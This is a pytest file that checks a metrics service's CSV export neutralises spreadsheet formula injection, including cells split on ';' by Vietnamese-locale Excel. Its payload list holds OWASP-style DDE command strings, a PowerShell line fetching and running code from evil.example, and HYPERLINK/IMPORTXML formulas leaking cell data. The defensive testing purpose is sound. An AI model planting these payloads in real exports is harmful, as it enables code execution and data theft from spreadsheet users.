"""Finding 9: CSV exports (services/metrics/export.py). Excel set to Vietnamese splits lines on `;`, not
`,`, so a `;` inside a text started a new cell that could be a formula; and a formula behind a space,
a line break, an NBSP or written with a fullwidth `＝` was not neutralised. Each file is read back as a
program reads it (`,`, quoted cells text, unquoted ones numbers) and as Excel in vi-VN would (`;`):
no cell starts like a formula, every text cell is quoted, numbers stay numbers."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings, strategies as st

from services.metrics import export
from services.metrics.export import Table

# OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection), then the same behind
# what a spreadsheet skips, in the forms Unicode folds into the triggers, and after a `;` or a line break.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/p)'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    " =1+1", "  @SUM(1+1)", "\n=1+1", "\r\n+1+1", "\u00a0=1+1", "\u00a0\u00a0-1+1", "\u3000=1+1", "\u200b=1+1",
    "\ufeff=1+1", '"=1+1',
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", " ＝HYPERLINK(\"http://evil.example\")", "\u00a0＝1+1", "﹦1+1",
    "a;=1+1", "a; =1+1", "a;\u00a0@SUM(1+1)", "a;＝1+1", 'a;"=1+1', "Tư pháp;=cmd|' /C calc'!A0",
    "a\n=1+1", "a\r\n-1+1", "a\r+1+1",
]

TRIGGERS = ("=", "+", "-", "@")


def blank(c: str) -> bool:
    """What a spreadsheet may skip or not show before a formula; and a quote, since a reader splitting on
    `;` may take ours for its own."""
    return c.isspace() or c == '"' or unicodedata.category(c) in ("Cc", "Cf")


def starts_like_formula(text: str) -> bool:
    first = next((c for c in text if not blank(c)), "")
    return unicodedata.normalize("NFKC", first)[:1] in TRIGGERS if first else False


def neutralised(text: str) -> str:
    """The text, an apostrophe before the formula its start or any part after a `;` or a line break
    would be."""
    parts = re.split(r"(?<=[;\r\n])", text)
    out = []
    for part in parts:
        if starts_like_formula(part):
            at = next(i for i, c in enumerate(part) if not blank(c))
            part = part[:at] + "'" + part[at:]
        out.append(part)
    return "".join(out)


def table_of(text: str, other: str = "Tư pháp", number: float = -2.5) -> Table:
    """`text` in every place a table holds text, beside numbers (negative ones too)."""
    return Table(title=text, sheet="x", filename="x", about=[(text, text), ("Điểm có nguy cơ mất", number)],
                 header=["Đơn vị", text, "Giờ"], rows=[[other, text, number], [text, 3, None]])


def expected(text: str, other: str = "Tư pháp", number: float = -2.5) -> list[list[str | float]]:
    n = neutralised(text)
    return [[n], [n, n], ["Điểm có nguy cơ mất", float(number)], [],
            ["Đơn vị", n, "Giờ"], [neutralised(other), n, float(number)], [n, 3.0, ""]]


def read_typed(data: bytes) -> list[list[str | float]]:
    """As a program reads it: quoted cells are text, unquoted ones numbers (a text unquoted fails)."""
    try:
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC))
    except ValueError as unquoted:
        pytest.fail(f"a text cell is not quoted: {unquoted}")


def read_with_semicolons(data: bytes) -> list[str]:
    """Every cell as Excel set to Vietnamese (list separator `;`) would split the file."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def formula_cells(data: bytes) -> list[str]:
    texts = [c for row in read_typed(data) for c in row if isinstance(c, str)]
    return [c for c in texts + read_with_semicolons(data) if starts_like_formula(c)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_starts_a_cell_whichever_separator_the_spreadsheet_uses(payload):
    data = export.to_csv(table_of(payload))
    assert formula_cells(data) == []
    assert read_typed(data) == expected(payload)


def test_a_unit_named_with_a_formula_after_a_semicolon_is_neutralised_in_the_units_report():
    answer = {"commune_code": "14923", "from": "2026-03-02", "to": "2026-03-02",
              "as_of": "2026-03-02T17:00:00+07:00",
              "units": [{"unit": "Tư pháp;=HYPERLINK(\"http://evil.example\")", "working_hours_held": 6.0,
                         "open": {}, "overdue": 0, "steps_overdue": 0}]}
    data = export.to_csv(export.units_table(answer))
    assert formula_cells(data) == []
    assert '"Tư pháp;\'=HYPERLINK(""http://evil.example"")",6.0,0,0,0,0,0,0\r\n' in data.decode("utf-8-sig")


def test_every_text_cell_is_quoted_and_numbers_stay_unquoted_numbers():
    text = export.to_csv(table_of("a;=1+1", number=-2.5)).decode("utf-8-sig")
    assert text.splitlines()[:3] == ['"a;\'=1+1"', '"a;\'=1+1","a;\'=1+1"', '"Điểm có nguy cơ mất",-2.5']
    assert '"Tư pháp","a;\'=1+1",-2.5\r\n' in text  # a negative number is a number, not a formula
    assert '"a;\'=1+1",3,""\r\n' in text  # and null an empty cell


def test_plain_text_is_left_as_it_is():
    for text in ["Tư pháp", "Dịch vụ A; Dịch vụ B", "000.00.38.H56-260302-0802", "x = 1", "a - b", "'=1"]:
        assert read_typed(export.to_csv(table_of(text)))[0] == [text]


# Triggers, separators and blanks often; any other character too, but no lone surrogate: the answers
# come from MongoDB, whose strings are UTF-8.
SHARP = st.sampled_from([*"=+-@;\"',\t\r\n a", "\u00a0", "\u3000", "\u200b", "＝", "＋", "－", "＠", "﹦"])
TEXT = st.text(SHARP | st.characters(exclude_categories=("Cs",)), max_size=24)


@settings(max_examples=200, deadline=None)
@given(text=TEXT, other=TEXT, number=st.integers(-10**15, 10**15) | st.floats(allow_nan=False, allow_infinity=False))
def test_any_text_reads_back_neutralised_and_never_starts_a_formula(text, other, number):
    data = export.to_csv(table_of(text, other, number))
    assert read_typed(data) == expected(text, other, number)
    assert formula_cells(data) == []
